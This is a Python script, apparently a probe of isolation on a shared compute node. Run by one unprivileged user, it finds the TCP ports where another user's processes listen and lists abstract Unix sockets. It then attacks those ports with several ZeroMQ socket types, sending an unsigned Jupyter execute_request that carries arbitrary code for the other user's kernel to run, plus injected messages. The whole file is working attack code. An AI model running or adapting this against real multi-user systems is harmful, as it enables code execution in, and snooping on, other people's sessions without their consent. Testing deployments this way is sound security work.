"""Another user of a student's node: tries to hear and to say something on all that listens there.

    python intruder.py UID SECONDS CODE

Prints a JSON object: for each TCP port on which a process of user UID listens, what came from it in
SECONDS, by the kind of socket that asked. CODE is what it would have the student's kernel run. Unix
sockets that no folder protects are named, too. It needs pyzmq, and no right but to log in.
"""

from __future__ import annotations

import contextlib
import json
import selectors
import socket
import sys
import time
from pathlib import Path

import zmq

#: The beginning of ZeroMQ's protocol (ZMTP 3.0); the other side then says what it asks for.
GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x00"
#: State "listens" in /proc/net/tcp, and its local addresses: of all interfaces, and none.
LISTENS, ANY = "0A", "0.0.0.0"


def ports(user: int) -> dict[int, str]:
    """Ports on which this user's processes listen, with an address that reaches each."""
    found = {}
    for line in Path("/proc/net/tcp").read_text(encoding="utf-8").splitlines()[1:]:
        fields = line.split()
        host, port = fields[1].split(":")
        if fields[3] == LISTENS and int(fields[7]) == user:
            address = socket.inet_ntoa(bytes.fromhex(host)[::-1])
            found[int(port, 16)] = "127.0.0.1" if address == ANY else address
    return found


def abstract_sockets() -> list[str]:
    """Names of Unix sockets that are no files: everybody on the host may connect."""
    names = (
        line.split()[-1] for line in Path("/proc/net/unix").read_text(encoding="utf-8").splitlines()
    )
    return sorted({name for name in names if name.startswith("@")})


def greetings(places: dict[int, str], seconds: float) -> dict[int, str]:
    """What each port says to a plain connection that speaks ZeroMQ: a mechanism, or what else."""
    said = dict.fromkeys(places, b"")
    with selectors.DefaultSelector() as waiting, contextlib.ExitStack() as wires:
        for port, host in places.items():
            with contextlib.suppress(OSError):
                wire = wires.enter_context(socket.create_connection((host, port), seconds))
                wire.sendall(GREETING)
                waiting.register(wire, selectors.EVENT_READ, port)
        end = time.monotonic() + seconds
        while (left := end - time.monotonic()) > 0:
            for key, _ in waiting.select(left):
                more = b""
                with contextlib.suppress(OSError):
                    more = key.fileobj.recv(4096)
                said[key.data] += more
                if not more:
                    waiting.unregister(key.fileobj)
    return {port: _mechanism(text) for port, text in said.items()}


def _mechanism(said: bytes) -> str:
    if said[:1] == b"\xff" and len(said) >= 32:
        return f"ZeroMQ {said[12:32].rstrip(bytes(1)).decode()}"
    return repr(said)[2:-1]


def request(code: str) -> list[bytes]:
    """An execute_request of Jupyter's protocol, without a signature: the key is not known."""
    header = {"msg_id": "1", "username": "", "session": "1", "msg_type": "execute_request"}
    header |= {"version": "5.3", "date": "2026-01-01T00:00:00Z"}
    content = {"code": code, "silent": False, "store_history": False, "allow_stdin": False}
    parts = (json.dumps(part).encode() for part in (header, {}, {}, content))
    return [b"<IDS|MSG>", b"", *parts]


def attack(places: dict[int, str], seconds: float, code: str) -> dict[int, dict[str, str]]:
    """Ask all ports with all kinds of ZeroMQ's sockets at once; returns what came, by both."""
    kinds = {
        "SUB": (zmq.SUB, []),
        "DEALER": (zmq.DEALER, request(code)),
        "REQ": (zmq.REQ, [b"ping"]),
        "PULL": (zmq.PULL, []),
        "PUSH": (zmq.PUSH, [b"", b"injected"]),
    }
    got = {port: dict.fromkeys(kinds, "") for port in places}
    context, poller, who = zmq.Context(), zmq.Poller(), {}
    context.max_sockets = 5000
    for port, host in places.items():
        for name, (kind, say) in kinds.items():
            wire = context.socket(kind)
            wire.linger = 0
            if kind == zmq.SUB:
                wire.subscribe(b"")
            wire.connect(f"tcp://{host}:{port}")
            if say:
                wire.send_multipart(say)
            if kind != zmq.PUSH:
                poller.register(wire, zmq.POLLIN)
            who[wire] = port, name
    end = time.monotonic() + seconds
    while (left := end - time.monotonic()) > 0:
        for wire, _ in poller.poll(1000 * left):
            port, name = who[wire]
            got[port][name] += b" ".join(wire.recv_multipart()).decode(errors="replace")
    context.destroy(linger=0)
    return got


def main() -> None:
    """Attack what listens now."""
    user, seconds, code = int(sys.argv[1]), float(sys.argv[2]), sys.argv[3]
    places = ports(user)
    said = greetings(places, seconds)
    got = attack(places, seconds, code)
    found = {port: {"greeting": said[port], **got[port]} for port in places}
    print(json.dumps({"ports": found, "abstract": abstract_sockets()}))


if __name__ == "__main__":
    main()
